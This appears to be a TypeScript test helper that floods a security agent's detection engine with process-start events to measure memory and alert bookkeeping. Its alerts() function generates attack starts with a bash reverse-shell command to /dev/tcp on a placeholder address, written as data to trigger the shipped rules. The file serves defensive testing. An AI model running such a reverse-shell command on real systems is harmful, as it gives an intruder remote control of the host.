import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { type AlertAccounts, Alerts } from '../../../src/agent/detections/alerts/alerts.ts';
import { builtInRules } from '../../../src/agent/detections/built-in.ts';
import { Detections } from '../../../src/agent/detections/detections.ts';
import { systemClock } from '../../../src/core/base/clock.ts';
import { hours } from '../../../src/core/base/duration.ts';
import { createLog } from '../../../src/core/base/log.ts';
import { nextTurn } from '../../../src/core/base/waiting.ts';
import type { Occurrence } from '../../../src/core/contract/consumers.ts';
import { POLICY } from './alerts/samples.ts';

export const MEGABYTE = 1_048_576;

setFlagsFromString('--expose_gc');
const collectGarbage = runInNewContext('gc') as () => void;

/** Bytes in use, after a collection of garbage. */
export function heap(): number {
  collectGarbage();
  return process.memoryUsage().heapUsed;
}

/** What an idle gateway starts, with a number that makes each line new. */
const HARMLESS = [
  (number: number) => `curl -fsS --max-time 10 https://example.com/health?n=${number}`,
  (number: number) => `python3 /opt/gateway/collect.py --interval 30 --sequence ${number}`,
  (number: number) => `grep -q running-${number} /run/state`,
  (number: number) => `sh -c test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily/${number}`,
];

/** The detections as in an agent, with the shipped rules, and starts that are all different. */
export function forward() {
  const log = createLog({ level: 'info', destination: { write: () => {} } });
  const alerts = new Alerts({
    raise: () => {},
    sendEarly: () => {},
    policy: () => ({ ...POLICY, minimumLevel: 'informational' }),
    origin: 'flood',
    clock: systemClock,
    log,
  });
  const detections = new Detections({
    isOn: () => true,
    rules: builtInRules(),
    lists: () => ({}),
    alerts,
    ancestry: {
      processAt: (pid) => ({ pid, parentPid: 0, executable: '/usr/sbin/cron', commandLine: 'cron -f' }),
    },
    files: { isRootOwned: () => false, runsHostFile: () => undefined },
    userNameOf: () => undefined,
    idOf: () => undefined,
    collectors: () => [],
    isPaused: () => false,
    snapshotPeriod: () => hours(13),
    clock: systemClock,
    log,
    changed: () => {},
    stateChanged: () => {},
  });
  let number = 0;
  const take = async (executable: string, commandLine: string) => {
    const payload = {
      Executable: executable,
      CommandLine: commandLine,
      ProcessId: 1_000 + (number % 30_000),
      ParentProcessId: 10,
      UserId: '0',
      UserName: 'root',
    };
    const time = systemClock.now();
    const occurrence: Occurrence = { event: 'ProcessCreate', payload, time, serial: number, stream: 'starts' };
    detections.accept({ event: 'ProcessCreate', occurrences: () => [occurrence], count: () => 1, broken: [] });
    number += 1;
    while (detections.isBehind()) await nextTurn();
  };
  return {
    /** This many harmless starts with different command lines. */
    async starts(count: number): Promise<void> {
      for (let index = 0; index < count; index += 1) {
        const line = HARMLESS[index % HARMLESS.length]?.(number) ?? '';
        await take(`/usr/bin/${line.slice(0, line.indexOf(' '))}`, line);
      }
    },
    /** So many starts that are attacks, each by another program and so with a key of its own. */
    async alerts(count: number): Promise<void> {
      for (let index = 0; index < count; index += 1)
        await take(`/tmp/x${number}/bash`, `bash -c bash -i >& /dev/tcp/192.0.2.1/${number % 65_536} 0>&1`);
    },
    accounts: (): AlertAccounts => alerts.accounts(),
    problem: (): string | undefined => detections.status().problem,
    savedBytes: (): number => JSON.stringify([alerts.toJson(), detections.toJson()]).length,
  };
}
